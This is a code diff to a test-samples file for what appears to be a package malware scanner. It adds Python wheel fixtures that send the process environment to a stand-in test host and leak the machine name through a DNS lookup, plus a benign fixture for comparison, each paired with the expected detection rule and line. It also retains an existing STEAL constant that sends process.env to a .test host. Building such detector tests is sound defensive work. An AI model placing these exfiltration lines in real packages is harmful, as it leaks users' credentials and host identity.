@@ -1,5 +1,5 @@
 import type { Samples } from '../contract.ts';
-import { imported, installed, manifest, quiet } from '../samples-kit.ts';
+import { imported, installed, manifest, quiet, wheel } from '../samples-kit.ts';
 
 const STEAL = `fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(process.env) })`;
 
@@ -9,6 +9,18 @@ function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number
 
 export const samples: Samples = {
   malicious: [
+    {
+      name: 'Python: the environment to a free host, in a function',
+      files: wheel(
+        'import os, requests\ndef hello():\n    requests.post("https://own.free.weir.test/in", json=dict(os.environ))\n',
+      ),
+      expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: the name of the machine below a zone',
+      files: wheel('import socket\nsocket.gethostbyname(socket.gethostname() + ".own.names.weir.test")\n'),
+      expected: [{ rule: 'host-identity', file: 'own/__init__.py', line: 2, severity: 'high' }],
+    },
     {
       name: 'the environment in a request body',
       files: installed(
@@ -166,6 +178,10 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: the own address of the machine',
+      wheel('import socket\nADDRESS = socket.gethostbyname(socket.gethostname())\n'),
+    ),
     quiet(
       'an API client with its key',
       imported(
